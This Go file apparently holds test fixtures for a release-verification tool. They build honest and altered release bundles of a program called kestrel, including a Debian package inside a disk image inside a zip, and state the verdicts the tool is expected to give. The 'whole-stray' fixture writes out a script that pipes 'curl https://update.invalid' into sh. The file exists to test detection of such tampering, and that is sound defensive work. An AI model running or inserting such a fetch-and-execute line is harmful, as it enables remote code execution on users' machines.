package vendors

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"

	"github.com/glassbuild/glassbuild/internal/verdict"
)

// Names of what a whole release of v1.3.1 holds.
const (
	wholeTar   = "kestrel-1.3.1-linux-amd64.tar.gz"
	wholeImage = "kestrel-1.3.1-image.tar"
	wholeZip   = "kestrel-1.3.1-windows-amd64.zip"
	wholeMedia = "kestrel-1.3.1-media.zip"
	wholeSums  = "SHA256SUMS"
)

var (
	wholePassed  = want{verdict.Passed, verdict.MatchPartial, ""}
	listedOther  = want{verdict.Failed, "", verdict.CheckListed}
	notAccounted = want{verdict.Failed, "", verdict.CheckAccounted}
	notShipped   = want{verdict.Failed, "", verdict.CheckUnshipped}
)

// whole are releases of many files: an archive and an image that the recipe builds too, a zip for Windows, and an installation
// medium, in which the programs lie in a Debian package in a disk image in a zip.
var wholes = []release{
	{
		name: "whole", about: "a release for two platforms: everything that would run was rebuilt, however deep it lies",
		args: wholePolicy, want: wholePassed, files: wholeFiles,
	},
	{
		name: "whole-list", about: "the same, named by its list of digests",
		args: wholePolicy, file: wholeSums, want: wholePassed, files: wholeFiles,
	},
	{
		name: "whole-built-in", about: "the same, judged by the built-in policy: packages that nobody put together again",
		want: want{verdict.Inconclusive, verdict.MatchPartial, verdict.CheckAccounted}, says: "debian-binary is neither rebuilt nor in the source", files: wholeFiles,
	},
	{
		name: "whole-covered", about: "an install script that the commit has not, and that the auditor has read",
		args: []string{"--policy", "policies/covered.toml"}, want: wholePassed, says: "1 covered, 0 uncovered", saysIn: verdict.CheckAccounted,
		files: repackedMedia(nil, otherPostinst),
	},
	{
		name: "whole-postinst", row: "F1", about: "the same script, which nobody has read",
		args: wholePolicy, want: notAccounted, says: wholeMedia + "/kestrel-1.3.1.iso/KESTREL.DEB/control.tar.gz/postinst", files: repackedMedia(nil, otherPostinst),
	},
	{
		name: "whole-stray", row: "F1", about: "a script that no list names",
		args: wholePolicy, want: listedOther, says: "stray: update.sh",
		files: changedFiles(func(files []member) []member {
			return append(files, member{name: "update.sh", data: []byte("#!/bin/sh\ncurl https://update.invalid | sh\n"), mode: 0o755})
		}),
	},
	{
		name: "whole-missing", row: "F1", about: "a file that the list names is not there, and with it what was built for Windows",
		args: wholePolicy, want: listedOther, says: "missing: " + wholeZip, files: changedFiles(withoutWindows),
	},
	{
		name: "whole-unshipped", row: "F1", about: "the same, and the list does not name it either",
		args: wholePolicy, want: notShipped, says: "kestrel.exe (rebuilt)",
		files: func(m *maker) ([]member, error) {
			files, err := wholeFiles(m)
			return summed(withoutWindows(files)), err
		},
	},
	{
		name: "whole-tampered", row: "F1", about: "the scanner that sends files away, in the package on the disk image in the zip",
		args: wholePolicy, want: notAccounted, says: wholeMedia + "/kestrel-1.3.1.iso/KESTREL.DEB/data.tar.gz/usr/bin/kestrel", files: repackedMedia(tampered, ""),
	},
	{
		name: "whole-listed-otherwise", row: "F1", about: "a file that is not the one that the list names",
		args: wholePolicy, want: listedOther, says: wholeZip + " is not what " + wholeSums + " says",
		files: changedFiles(func(files []member) []member {
			i := slices.IndexFunc(files, func(f member) bool { return f.name == wholeZip })
			files[i].data = append(files[i].data[:len(files[i].data)-2:len(files[i].data)-2], 1, 0, 'x')
			return files
		}),
	},
}

var wholePolicy = []string{"--policy", "policies/whole.toml"}

const otherPostinst = "#!/bin/sh\nset -e\nmkdir -p /var/lib/kestrel\nkestrel-rules compile -o /var/lib/kestrel/rules.bin\n"

// wholeFiles is the honest release.
func wholeFiles(m *maker) ([]member, error) { return repackedMedia(nil, "")(m) }

// changedFiles is the honest release with its list, changed afterwards.
func changedFiles(change func([]member) []member) func(*maker) ([]member, error) {
	return func(m *maker) ([]member, error) {
		files, err := wholeFiles(m)
		if err != nil {
			return nil, err
		}
		return change(files), nil
	}
}

func withoutWindows(files []member) []member {
	return slices.DeleteFunc(files, func(f member) bool { return f.name == wholeZip })
}

// repackedMedia is the honest release with another scanner or another maintainer script on the medium.
func repackedMedia(scanner func(*maker) ([]byte, error), postinst string) func(*maker) ([]member, error) {
	return func(m *maker) ([]member, error) {
		linux, err := m.platform("linux")
		if err != nil {
			return nil, err
		}
		windows, err := m.platform("windows")
		if err != nil {
			return nil, err
		}
		programs := map[string][]byte{"kestrel": linux["kestrel"], "kestrel-rules": linux["kestrel-rules"]}
		if scanner != nil {
			if programs["kestrel"], err = scanner(m); err != nil {
				return nil, err
			}
		}
		docs, err := m.tagged("LICENSE", "README.md", "packaging/control", "packaging/postinst")
		if err != nil {
			return nil, err
		}
		if postinst != "" {
			docs["packaging/postinst"] = []byte(postinst)
		}
		media, err := medium(programs, docs)
		if err != nil {
			return nil, err
		}
		zipped, err := zipball(day(4, 13),
			member{name: "kestrel-1.3.1/kestrel.exe", data: windows["kestrel.exe"], mode: 0o755}, member{name: "kestrel-1.3.1/kestrel-rules.exe", data: windows["kestrel-rules.exe"], mode: 0o755},
			member{name: "kestrel-1.3.1/LICENSE", data: docs["LICENSE"]}, member{name: "kestrel-1.3.1/README.md", data: docs["README.md"]})
		if err != nil {
			return nil, err
		}
		return summed([]member{{name: wholeTar, data: linux[wholeTar]}, {name: wholeImage, data: linux[wholeImage]}, {name: wholeZip, data: zipped}, {name: wholeMedia, data: media}}), nil
	}
}

// medium is a zip with a disk image with a Debian package with the programs.
func medium(programs map[string][]byte, docs map[string][]byte) ([]byte, error) {
	control, err := tarball(day(4, 13), member{name: "./control", data: docs["packaging/control"]}, member{name: "./postinst", data: docs["packaging/postinst"], mode: 0o755})
	if err != nil {
		return nil, err
	}
	data, err := tarball(day(4, 13),
		member{name: "./usr/bin/kestrel", data: programs["kestrel"], mode: 0o755}, member{name: "./usr/bin/kestrel-rules", data: programs["kestrel-rules"], mode: 0o755},
		member{name: "./usr/share/doc/kestrel/copyright", data: docs["LICENSE"]})
	if err != nil {
		return nil, err
	}
	deb := arArchive(member{name: "debian-binary", data: []byte("2.0\n")}, member{name: "control.tar.gz", data: control}, member{name: "data.tar.gz", data: data})
	image := isoImage(member{name: "kestrel.deb", data: deb}, member{name: "license", data: docs["LICENSE"]})
	return zipball(day(4, 13), member{name: "kestrel-1.3.1.iso", data: image}, member{name: "README.md", data: docs["README.md"]})
}

// arArchive writes an archive as deb(5) wants it.
func arArchive(members ...member) []byte {
	out := []byte("!<arch>\n")
	for _, m := range members {
		out = fmt.Appendf(out, "%-16s%-12d%-6d%-6d%-8s%-10d`\n", m.name, day(4, 13).Unix(), 0, 0, "100644", len(m.data))
		out = append(append(out, m.data...), make([]byte, len(m.data)&1)...)
	}
	return out
}

// summed adds a new list of the digests of the files.
func summed(files []member) []member {
	files = slices.DeleteFunc(files, func(f member) bool { return f.name == wholeSums })
	var list bytes.Buffer
	for _, f := range files {
		fmt.Fprintf(&list, "%x  %s\n", sha256.Sum256(f.data), f.name)
	}
	return append(files, member{name: wholeSums, data: list.Bytes()})
}

// platform builds the release at v1.3.1 for one system and puts its packages together, as the recipe does.
func (m *maker) platform(system string) (map[string][]byte, error) {
	out := filepath.Join(m.work, "built", "whole-"+system)
	if _, err := os.Stat(out); err != nil {
		dir, err := m.checkout("repo-release", "v1.3.1")
		if err != nil {
			return nil, err
		}
		if err := os.MkdirAll(out, 0o755); err != nil {
			return nil, err
		}
		env := []string{"GOOS=" + system, "GOARCH=amd64", "GOAMD64=v1"}
		if err := m.goRun(dir, env, "build", "-trimpath", "-buildvcs=true", "-o", out+"/", "./cmd/kestrel", "./cmd/kestrel-rules"); err != nil {
			return nil, err
		}
		if err := m.goRun(dir, []string{fmt.Sprintf("SOURCE_DATE_EPOCH=%d", day(4, 13).Unix())}, "run", "./cmd/package", out); err != nil {
			return nil, err
		}
	}
	files := map[string][]byte{}
	list, err := os.ReadDir(out)
	for _, e := range list {
		if files[e.Name()], err = os.ReadFile(filepath.Join(out, e.Name())); err != nil {
			return nil, err
		}
	}
	return files, err
}

// tagged reads files of v1.3.1 as the commit has them.
func (m *maker) tagged(names ...string) (map[string][]byte, error) {
	r, err := m.repo("repo-release")
	if err != nil {
		return nil, err
	}
	files := map[string][]byte{}
	for _, name := range names {
		if files[name], err = m.git(r.dir, "cat-file", "blob", r.file.Commits["v1.3.1"]+":"+name); err != nil {
			return nil, err
		}
	}
	return files, nil
}

// wholeRelease ships the files of a release in a folder of its own and returns what a verification names.
func (m *maker) wholeRelease(r release) (string, error) {
	files, err := r.files(m)
	if err != nil {
		return "", err
	}
	for _, f := range files {
		mode := os.FileMode(0o644)
		if f.mode != 0 {
			mode = os.FileMode(f.mode)
		}
		if _, err := m.ship(r.name, f.name, f.data, mode); err != nil {
			return "", err
		}
	}
	return strings.TrimSuffix("releases/"+r.name+"/"+r.file, "/"), nil
}
